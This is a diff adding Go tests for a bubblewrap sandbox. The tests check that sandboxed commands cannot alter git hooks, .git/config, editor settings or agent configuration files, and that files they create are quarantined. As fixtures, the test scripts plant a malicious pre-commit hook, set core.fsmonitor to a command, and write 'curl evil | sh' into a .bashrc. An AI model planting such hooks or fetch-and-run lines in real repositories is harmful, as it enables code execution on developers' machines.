@@ -1,0 +1,418 @@
+package bwrap
+
+import (
+	"context"
+	"io/fs"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/corralhq/corral/sandbox"
+)
+
+// git runs git on the host in dir, with no settings of the person's.
+func (e *env) git(dir string, args ...string) string {
+	e.t.Helper()
+	cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"}, args...)...)
+	cmd.Dir = dir
+	cmd.Env = []string{"HOME=" + e.home, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1", "LANG=C"}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		e.t.Fatalf("git %q: %v\n%s", args, err, out)
+	}
+	return string(out)
+}
+
+// tree lists every path under dir with its type and size, for comparing a
+// tree before and after sandboxes: nothing may appear by the mechanism.
+func treeListing(t *testing.T, dir string) []string {
+	t.Helper()
+	var out []string
+	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
+		if err != nil {
+			return nil
+		}
+		info, _ := d.Info()
+		size := int64(0)
+		if info != nil && !d.IsDir() {
+			size = info.Size()
+		}
+		rel, _ := filepath.Rel(dir, p)
+		out = append(out, rel+" "+d.Type().String()+" "+strconv.FormatInt(size, 10))
+		return nil
+	})
+	return out
+}
+
+func onHost(p string) bool {
+	_, err := os.Lstat(p)
+	return err == nil
+}
+
+// The working directory is a git repository: its hooks, its configuration
+// and the editor settings stay read-only, git work goes on, and the
+// protection leaves nothing behind in the tree.
+func TestProtectedPathsInRepository(t *testing.T) {
+	for _, profile := range []sandbox.Profile{sandbox.ProfileWorkspace, sandbox.ProfileNetwork} {
+		t.Run(string(profile), func(t *testing.T) {
+			e := newEnv(t)
+			e.git(e.work, "init", "-q")
+			os.WriteFile(filepath.Join(e.work, "a.txt"), []byte("a\n"), 0o644)
+			os.MkdirAll(filepath.Join(e.work, ".vscode"), 0o755)
+			os.WriteFile(filepath.Join(e.work, ".vscode", "settings.json"), []byte("{}\n"), 0o644)
+			config, _ := os.ReadFile(filepath.Join(e.work, ".git", "config"))
+			prof := func(r *sandbox.Request) { r.Profile = profile }
+
+			before := treeListing(t, e.work)
+			if o := e.sh(`true`, prof); o.res.ExitCode != 0 || len(o.res.Warnings) != 0 {
+				t.Fatalf("true: %s", o)
+			}
+			if after := treeListing(t, e.work); !slices.Equal(before, after) {
+				t.Errorf("the mechanism changed the tree:\nbefore: %q\nafter:  %q", before, after)
+			}
+
+			o := e.sh(`
+try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
+try 'printf "#!/bin/sh\necho PWNED\n" > .git/hooks/pre-commit' hook
+try 'echo "[core] fsmonitor = evil" >> .git/config' config
+try 'git config core.fsmonitor evil' git-config
+try 'mv .git/hooks .git/hooks-old' move-hooks
+try 'rm -rf .git/hooks' remove-hooks
+try 'mv .git .git-old' move-git
+try 'echo "{\"x\":1}" > .vscode/settings.json' vscode
+try 'echo "{}" > .vscode/tasks.json' vscode-new
+try 'echo x > a.txt && mkdir -p src && echo y > src/b.txt' normal
+git add a.txt src && git -c user.name=t -c user.email=t@example.com commit -qm sandboxed && echo COMMITTED
+git log --oneline | wc -l`, prof)
+			mustContain(t, o, "refused hook", "refused config", "refused git-config", "refused move-hooks", "refused remove-hooks",
+				"refused move-git", "refused vscode", "refused vscode-new", "WROTE normal", "COMMITTED")
+			if onHost(filepath.Join(e.work, ".git", "hooks", "pre-commit")) {
+				t.Errorf("the hook exists on the host")
+			}
+			if now, _ := os.ReadFile(filepath.Join(e.work, ".git", "config")); string(now) != string(config) {
+				t.Errorf(".git/config changed:\n%s", now)
+			}
+			if b, _ := os.ReadFile(filepath.Join(e.work, ".vscode", "settings.json")); string(b) != "{}\n" {
+				t.Errorf(".vscode/settings.json changed: %q", b)
+			}
+			if log := e.git(e.work, "log", "--format=%s"); !strings.Contains(log, "sandboxed") {
+				t.Errorf("the commit is not on the host: %q", log)
+			}
+			// A shell start-up file the command made is gone afterwards,
+			// moved where the person can look at it.
+			o = e.sh(`echo 'curl evil | sh' > .bashrc && echo '{}' > .mcp.json && mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json && echo MADE`, prof)
+			mustContain(t, o, "MADE")
+			for _, p := range []string{".bashrc", ".mcp.json", ".claude"} {
+				if onHost(filepath.Join(e.work, p)) {
+					t.Errorf("%s made by the command is still in the tree", p)
+				}
+				if !slices.ContainsFunc(o.res.Warnings, func(w string) bool {
+					return strings.Contains(w, filepath.Join(e.work, p)+" was made by the command") && strings.Contains(w, "moved to "+filepath.Join(e.state, "quarantine"))
+				}) {
+					t.Errorf("no warning about %s: %q", p, o.res.Warnings)
+				}
+			}
+			q, _ := filepath.Glob(filepath.Join(e.state, "quarantine", "*", "*bashrc"))
+			if len(q) != 1 {
+				t.Errorf("quarantined .bashrc: %q", q)
+			} else if b, _ := os.ReadFile(q[0]); string(b) != "curl evil | sh\n" {
+				t.Errorf("quarantined .bashrc holds %q", b)
+			}
+		})
+	}
+}
+
+// A command that makes a repository where there was none: git works in
+// it, its hooks and configuration are moved out afterwards, and from the
+// next command on they exist, empty, and are read-only.
+func TestProtectedPathsGitInit(t *testing.T) {
+	e := newEnv(t)
+	o := e.sh(`set -e
+git init -q
+printf '#!/bin/sh\necho HOOK-RAN-IN-SANDBOX\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
+echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && echo COMMITTED`)
+	mustContain(t, o, "HOOK-RAN-IN-SANDBOX", "COMMITTED")
+	for _, p := range []string{".git/hooks", ".git/config"} {
+		if onHost(filepath.Join(e.work, p)) {
+			t.Errorf("%s made by the command is still there", p)
+		}
+	}
+	if log := e.git(e.work, "log", "--format=%s"); !strings.Contains(log, "first") {
+		t.Errorf("the repository does not work without its moved-out files: %q", log)
+	}
+	o = e.sh(`
+(printf '#!/bin/sh\necho PWNED\n' > .git/hooks/pre-commit) 2>/dev/null && echo WROTE-HOOK
+(echo '[core]' > .git/config) 2>/dev/null && echo WROTE-CONFIG
+echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@example.com commit -qm second && echo COMMITTED`)
+	mustContain(t, o, "COMMITTED")
+	mustNotContain(t, o, "WROTE-HOOK", "WROTE-CONFIG", "PWNED")
+	if ents, err := os.ReadDir(filepath.Join(e.work, ".git", "hooks")); err != nil || len(ents) != 0 {
+		t.Errorf(".git/hooks: %v %v, want: an empty directory", ents, err)
+	}
+	if st, err := os.Stat(filepath.Join(e.work, ".git", "config")); err != nil || st.Size() != 0 {
+		t.Errorf(".git/config: %v, want: an empty file", err)
+	}
+	if len(o.res.Warnings) != 0 {
+		t.Errorf("warnings: %q", o.res.Warnings)
+	}
+}
+
+// A repository nested in the working directory, a gitfile (a submodule's
+// .git) and a symlink on the way to a protected path are protected too.
+func TestProtectedPathsNestedAndSymlinks(t *testing.T) {
+	e := newEnv(t)
+	e.git(e.work, "init", "-q")
+	sub := filepath.Join(e.work, "vendor", "lib")
+	os.MkdirAll(sub, 0o755)
+	e.git(sub, "init", "-q")
+	gitfile := filepath.Join(e.work, "mod", ".git")
+	os.MkdirAll(filepath.Dir(gitfile), 0o755)
+	os.WriteFile(gitfile, []byte("gitdir: ../.git/modules/mod\n"), 0o644)
+	os.MkdirAll(filepath.Join(e.work, "dotfiles"), 0o755)
+	os.WriteFile(filepath.Join(e.work, "dotfiles", "bashrc"), []byte("# mine\n"), 0o644)
+	os.Symlink("dotfiles/bashrc", filepath.Join(e.work, ".bashrc"))
+
+	o := e.sh(`
+try() { if (eval "$1") 2>/dev/null; then echo "WROTE $2"; else echo "refused $2"; fi; }
+try 'echo evil > vendor/lib/.git/hooks/post-checkout' nested-hook
+try 'echo "[core]" >> vendor/lib/.git/config' nested-config
+try 'echo "gitdir: /elsewhere" > mod/.git' gitfile
+try 'echo evil >> .bashrc' through-link
+try 'echo mine > dotfiles/other' normal
+rm .bashrc && echo evil > .bashrc && echo REPLACED-LINK`)
+	mustContain(t, o, "refused nested-hook", "refused nested-config", "refused gitfile", "refused through-link", "WROTE normal", "REPLACED-LINK")
+	if b, _ := os.ReadFile(gitfile); string(b) != "gitdir: ../.git/modules/mod\n" {
+		t.Errorf("gitfile changed: %q", b)
+	}
+	if target, err := os.Readlink(filepath.Join(e.work, ".bashrc")); err != nil || target != "dotfiles/bashrc" {
+		t.Errorf(".bashrc after the command: %q %v, want: the symlink put back", target, err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(e.work, "dotfiles", "bashrc")); string(b) != "# mine\n" {
+		t.Errorf("the symlink's target changed: %q", b)
+	}
+	if !slices.ContainsFunc(o.res.Warnings, func(w string) bool { return strings.Contains(w, "the symlink was put back") }) {
+		t.Errorf("warnings: %q", o.res.Warnings)
+	}
+}
+
+// An empty, non-nil list protects nothing; under restricted the working
+// directory is read-only anyway.
+func TestProtectedPathsSettings(t *testing.T) {
+	e := newEnv(t)
+	e.git(e.work, "init", "-q")
+	o := e.sh(`echo x > .git/hooks/pre-commit && echo '{}' > .mcp.json && echo WROTE`, func(r *sandbox.Request) { r.Protected = []string{} })
+	mustContain(t, o, "WROTE")
+	if !onHost(filepath.Join(e.work, ".git/hooks/pre-commit")) || !onHost(filepath.Join(e.work, ".mcp.json")) {
+		t.Errorf("writes with protection off did not reach the host")
+	}
+	os.WriteFile(filepath.Join(e.work, "notes.txt"), []byte("mine\n"), 0o644)
+	o = e.sh(`(echo x > notes.txt) 2>/dev/null && echo WROTE-NOTES; echo x > .git/hooks/post-commit && echo WROTE-HOOK`, func(r *sandbox.Request) { r.Protected = []string{"notes.txt"} })
+	mustContain(t, o, "WROTE-HOOK")
+	mustNotContain(t, o, "WROTE-NOTES")
+	if _, err := e.backend.Run(context.Background(), &sandbox.Request{Argv: []string{"true"}, Workdir: e.work, Env: e.envv, Protected: []string{"../x"}}); err == nil || !strings.Contains(err.Error(), "pattern") {
+		t.Errorf("a malformed pattern: %v", err)
+	}
+}
+
+// --dry-run shows the read-only binds.
+func TestProtectedPathsDryRun(t *testing.T) {
+	e := newEnv(t)
+	e.git(e.work, "init", "-q")
+	argv, _, _, err := e.backend.Command(context.Background(), &sandbox.Request{Argv: []string{"true"}, Workdir: e.work, Env: e.envv, Profile: sandbox.ProfileWorkspace})
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := strings.Join(argv, " ")
+	for _, p := range []string{".git/hooks", ".git/config"} {
+		q := filepath.Join(e.work, p)
+		if !strings.Contains(line, "--ro-bind "+q+" "+q) {
+			t.Errorf("argv lacks --ro-bind %s: %s", q, line)
+		}
+	}
+	if !strings.Contains(line, "--bind "+filepath.Join(e.work, ".git")+" "+filepath.Join(e.work, ".git")) {
+		t.Errorf("argv does not pin .git: %s", line)
+	}
+}
+
+// The plan: protected paths are bound after the working directory and
+// never over a mask; missing ones are made, watched, or left alone.
+func TestPlanProtected(t *testing.T) {
+	f := newPlanFix(t)
+	git := filepath.Join(f.work, ".git")
+	for _, d := range []string{filepath.Join(git, "objects"), filepath.Join(git, "hooks")} {
+		os.MkdirAll(d, 0o755)
+	}
+	os.WriteFile(filepath.Join(git, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
+	os.MkdirAll(filepath.Join(f.work, ".idea"), 0o755)
+	plan, err := BuildPlan(&sandbox.Request{Argv: []string{"true"}, Workdir: f.work, Profile: sandbox.ProfileWorkspace}, f.host())
+	if err != nil {
+		t.Fatal(err)
+	}
+	idx := func(k mountKind, dest string) int {
+		return slices.IndexFunc(plan.Mounts, func(m mount) bool { return m.Kind == k && m.Dest == dest })
+	}
+	work := idx(mBind, f.work)
+	for _, p := range []string{".git/hooks", ".git/config", ".idea"} {
+		q := filepath.Join(f.work, p)
+		if i := idx(mRoBind, q); i < 0 || i < work {
+			t.Errorf("%s: ro-bind at %d, working directory at %d", p, i, work)
+		}
+	}
+	if i := idx(mBind, git); i < work {
+		t.Errorf(".git not pinned after the working directory: %d", i)
+	}
+	if i := idx(mRoBind, filepath.Join(f.work, ".vscode")); i >= 0 {
+		t.Errorf("a missing .vscode is bound (a mount point would be left on the host)")
+	}
+	var created []string
+	for _, c := range plan.Create {
+		created = append(created, strings.TrimPrefix(c.Path, f.work+"/"))
+	}
+	if !slices.Equal(created, []string{".git/config"}) {
+		t.Errorf("Create = %q, want: .git/config", created)
+	}
+	for _, p := range []string{".git/hooks", ".git/config", ".idea"} {
+		if !plan.protectBefore[filepath.Join(f.work, p)] {
+			t.Errorf("%s is not among the paths there before the command: %v", p, plan.protectBefore)
+		}
+	}
+	if plan.protectBefore[filepath.Join(f.work, ".bashrc")] {
+		t.Errorf("a missing .bashrc is among the paths there before the command")
+	}
+	// Nothing under restricted; nothing with an empty list.
+	for _, req := range []*sandbox.Request{
+		{Argv: []string{"true"}, Workdir: f.work, Profile: sandbox.ProfileRestricted},
+		{Argv: []string{"true"}, Workdir: f.work, Profile: sandbox.ProfileWorkspace, Protected: []string{}},
+	} {
+		plan, err := BuildPlan(req, f.host())
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(plan.Create)+len(plan.Links)+len(plan.protectRoots) > 0 || slices.ContainsFunc(plan.Mounts, func(m mount) bool { return m.Dest == filepath.Join(f.work, ".git/hooks") }) {
+			t.Errorf("profile %s, protected %q: %+v", req.Profile, req.Protected, plan)
+		}
+	}
+}
+
+// A read-write bind is a writable directory too, also when it is seen at
+// another path; a bound FIFO is not scanned (opening it would block).
+func TestProtectedPathsInBinds(t *testing.T) {
+	e := newEnv(t)
+	data := filepath.Join(e.base, "data")
+	os.MkdirAll(data, 0o755)
+	e.git(data, "init", "-q")
+	fifo := filepath.Join(e.base, "fifo")
+	if err := unix.Mkfifo(fifo, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	o := e.sh(`
+cd /tmp/data || exit 1
+(echo evil > .git/hooks/pre-commit) 2>/dev/null && echo WROTE-HOOK
+(echo evil >> .git/config) 2>/dev/null && echo WROTE-CONFIG
+echo a > a.txt && git add a.txt && git -c user.name=t -c user.email=t@example.com commit -qm in-bind && echo COMMITTED`,
+		func(r *sandbox.Request) {
+			r.Binds = []sandbox.Bind{{Src: data, Dest: "/tmp/data"}, {Src: fifo}}
+		})
+	mustContain(t, o, "COMMITTED")
+	mustNotContain(t, o, "WROTE-HOOK", "WROTE-CONFIG")
+	if onHost(filepath.Join(data, ".git/hooks/pre-commit")) {
+		t.Errorf("the hook reached the host")
+	}
+}
+
+// What a command makes that no list of missing paths names is found by the
+// scan after it: a repository made in an existing subdirectory (whose
+// .git would take over the person's git there) and a new submodule git
+// directory lose their hooks and configuration.
+func TestProtectedPathsAppearDuringCommand(t *testing.T) {
+	e := newEnv(t)
+	e.git(e.work, "init", "-q")
+	os.MkdirAll(filepath.Join(e.work, "src"), 0o755)
+	o := e.sh(`set -e
+git init -q src && git -C src config core.fsmonitor 'echo PWNED'
+mkdir -p .git/modules/lib/hooks && echo 'ref: refs/heads/main' > .git/modules/lib/HEAD && echo evil > .git/modules/lib/hooks/post-checkout
+echo DONE`)
+	mustContain(t, o, "DONE")
+	for _, p := range []string{"src/.git/config", "src/.git/hooks", ".git/modules/lib/hooks"} {
+		if onHost(filepath.Join(e.work, p)) {
+			t.Errorf("%s made by the command is still there", p)
+		}
+	}
+	for _, p := range []string{"src/.git/HEAD", ".git/modules/lib/HEAD"} {
+		if !onHost(filepath.Join(e.work, p)) {
+			t.Errorf("%s was moved out too", p)
+		}
+	}
+	if n := len(o.res.Warnings); n != 3 {
+		t.Errorf("%d warnings, want: 3: %q", n, o.res.Warnings)
+	}
+}
+
+// Protected binds go by descriptor where bwrap can, numbered after bwrap's
+// own; a source swapped for a symlink after the plan is refused; the
+// descriptors never reach the command.
+func TestProtectedBindFDs(t *testing.T) {
+	base := testBase(t)
+	dir, file := filepath.Join(base, "dir"), filepath.Join(base, "file")
+	os.MkdirAll(dir, 0o755)
+	os.WriteFile(file, nil, 0o644)
+	mk := func() *Plan {
+		return &Plan{Mounts: []mount{
+			{Kind: mRoBind, Src: "/", Dest: "/"},
+			{Kind: mBind, Src: dir, Dest: dir, ViaFD: true},
+			{Kind: mRoBind, Src: file, Dest: "/x/file", ViaFD: true},
+		}}
+	}
+	plan := mk()
+	files, err := openBindFDs(plan, &Binary{BindFD: true}, 7)
+	if err != nil || len(files) != 2 {
+		t.Fatalf("openBindFDs: %v, %d files", err, len(files))
+	}
+	for _, f := range files {
+		f.Close()
+	}
+	argv := strings.Join(Argv(plan, Features{}, -1, []string{"true"}), " ")
+	if !strings.Contains(argv, "--ro-bind / /") || !strings.Contains(argv, "--bind-fd 7 "+dir) || !strings.Contains(argv, "--ro-bind-fd 8 /x/file") {
+		t.Errorf("argv: %s", argv)
+	}
+	plan = mk()
+	if files, err := openBindFDs(plan, &Binary{}, 7); err != nil || files != nil || plan.Mounts[1].FD != 0 {
+		t.Errorf("without bind-fd: %v %v %+v", err, files, plan.Mounts)
+	}
+	// Swapped for a symlink, the source itself or a directory on its way.
+	os.Rename(dir, dir+".real")
+	os.Symlink(dir+".real", dir)
+	if _, err := openBindFDs(mk(), &Binary{BindFD: true}, 7); err == nil || !strings.Contains(err.Error(), "run the command again") {
+		t.Errorf("a source swapped for a symlink: %v", err)
+	}
+	os.Remove(dir)
+	os.Rename(dir+".real", dir)
+	sub := filepath.Join(base, "sub")
+	os.MkdirAll(filepath.Join(base, "elsewhere", "file"), 0o755)
+	os.Symlink(filepath.Join(base, "elsewhere"), sub)
+	plan = &Plan{Mounts: []mount{{Kind: mRoBind, Src: filepath.Join(sub, "file"), Dest: "/x", ViaFD: true}}}
+	if _, err := openBindFDs(plan, &Binary{BindFD: true}, 7); err == nil {
+		t.Errorf("a source through a symlinked directory was opened")
+	}
+}
+
+func TestProtectedBindFDsNotInherited(t *testing.T) {
+	e := newEnv(t)
+	e.git(e.work, "init", "-q")
+	bin, err := e.backend.Binary(context.Background())
+	if err != nil {
+		t.Fatal(err)
+	}
+	help, _ := exec.Command(bin.Path, "--help").CombinedOutput()
+	if bin.BindFD != strings.Contains(string(help), "--ro-bind-fd") {
+		t.Errorf("BindFD = %v, but --help says %q", bin.BindFD, help)
+	}
+	o := e.sh(`ls /proc/self/fd | tr '\n' ' '; (echo x > .git/hooks/pre-commit) 2>/dev/null || echo REFUSED`)
+	mustContain(t, o, "0 1 2 3 REFUSED")
+}
